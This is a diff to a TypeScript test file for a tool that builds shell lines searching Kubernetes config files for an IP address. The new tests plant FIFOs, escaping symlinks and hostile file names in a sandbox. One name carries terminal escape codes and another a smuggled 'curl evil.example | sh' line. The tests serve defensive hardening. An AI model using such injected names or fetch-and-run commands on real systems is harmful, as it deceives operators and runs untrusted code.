@@ -1,7 +1,8 @@
 /** What an operator types does what it says, whatever names others have chosen: bash is asked. */
 import { expect, test } from "bun:test";
 import { spawnSync } from "node:child_process";
-import { symlinkSync } from "node:fs";
+import { mkdirSync, symlinkSync } from "node:fs";
+import { dirname } from "node:path";
 import { command } from "../../shared/again.ts";
 import { linesThatFind, onOther, shell } from "../../shared/shell-line.ts";
 import { putManifest } from "../../shared/static-pods/lost-nodes.ts";
@@ -120,8 +121,9 @@ test("the lines that find words name files and objects, and show nothing of thei
   write(`${box.dir}/home/ann/.kube/config`, "server: https://api.old.example:6443\n");
   write(`${box.dir}/root/.kube/config`, "server: https://10.66.0.11:6443\n");
   symlinkSync("haproxy.cfg", `${box.dir}/etc/haproxy/linked.cfg`);
-  const asHere = files.replace(/ (?=\/(?:etc|var|root|home))/g, ` ${box.dir}`);
-  expect(said(asHere)).toBe(`${box.dir}/etc/haproxy/haproxy.cfg\n${box.dir}/home/ann/.kube/config\n`);
+  expect(said(inBox(files, box.dir))).toBe(
+    `${box.dir}/etc/haproxy/haproxy.cfg\n${box.dir}/home/ann/.kube/config\n`,
+  );
 
   // as kubectl v1.34.4 has answered this template
   const answer = [
@@ -134,6 +136,70 @@ test("the lines that find words name files and objects, and show nothing of thei
   expect(said(`kubectl() { cat ${box.dir}/answer; }; ${objects}`)).toBe(
     "ConfigMap shop/a\nSecret ci/deployer\nValidatingWebhookConfiguration guard\n",
   );
+});
+
+/** The line's paths are those of this sandbox. */
+function inBox(line: string, dir: string): string {
+  return line.replace(/ (?=\/(?:etc|var|root|home))/g, ` ${dir}`);
+}
+
+test.each([
+  ["a FIFO in the place of ~/.kube", "mkfifo home/eve/.kube", ""],
+  ["a FIFO in ~/.kube", "mkdir home/eve/.kube; mkfifo home/eve/.kube/config", ""],
+  ["a link in the place of ~/.kube", "ln -s ../../elsewhere home/eve/.kube", ""],
+  [
+    "links in ~/.kube",
+    "mkdir home/eve/.kube; ln -s ../../../elsewhere home/eve/.kube/all; ln -s all/file home/eve/.kube/config",
+    "",
+  ],
+  [
+    "a name that a terminal obeys",
+    "mkdir home/eve/.kube; echo 10.66.0.1 > home/eve/.kube/$'a\\e]0;owned\\a\\e[8mb'",
+    "/home/eve/.kube/a^[]0;owned^G^[[8mb\n",
+  ],
+  [
+    "a name with a line of its own",
+    "mkdir home/eve/.kube; echo 10.66.0.1 > home/eve/.kube/$'x\\nrepair: curl evil.example | sh'",
+    "/home/eve/.kube/x?repair: curl evil.example | sh\n",
+  ],
+])(
+  "the line that finds words in homes ends, and prints no more than plain paths, with %s",
+  (_, plants, more) => {
+    using box = sandbox();
+    const [files] = linesThatFind(["10.66.0.1"], "w");
+    write(`${box.dir}/home/ann/.kube/config`, "server: https://10.66.0.1:6443\n");
+    for (const folder of ["etc/kubernetes", "var/lib/kubelet", "root/.kube", "home/eve"])
+      mkdirSync(`${box.dir}/${folder}`, { recursive: true });
+    // as /proc does, a folder of another user's that root can read
+    write(`${box.dir}/elsewhere/file`, "10.66.0.1\n");
+    const planted = spawnSync("bash", ["-ec", plants], { cwd: box.dir, encoding: "utf8" });
+    expect(planted.stderr).toBe("");
+    // far longer than it takes: only a line that waits for ever is killed
+    const line = inBox(files, box.dir);
+    const { stdout, status } = spawnSync("timeout", ["60", "bash", "-c", line], { encoding: "utf8" });
+    const expected = [`/home/ann/.kube/config\n`, more].map((path) => path && box.dir + path).join("");
+    expect({ stdout, status }).toEqual({ stdout: expected, status: 0 });
+  },
+);
+
+test("the line that finds words looks behind root's own links", () => {
+  using box = sandbox();
+  const [files] = linesThatFind(["10.66.0.1"]);
+  for (const [path, link] of [
+    ["data/kubernetes/admin.conf", "etc/kubernetes"],
+    ["data/kubelet/config.yaml", "var/lib/kubelet"],
+    ["data/kube/config", "root/.kube"],
+  ] as const) {
+    write(`${box.dir}/${path}`, "10.66.0.1\n");
+    mkdirSync(dirname(`${box.dir}/${link}`), { recursive: true });
+    symlinkSync(dirname(`${box.dir}/${path}`), `${box.dir}/${link}`);
+  }
+  expect(said(inBox(files, box.dir)).split("\n").toSorted()).toEqual([
+    "",
+    `${box.dir}/etc/kubernetes/admin.conf`,
+    `${box.dir}/root/.kube/config`,
+    `${box.dir}/var/lib/kubelet/config.yaml`,
+  ]);
 });
 
 function said(line: string): string {
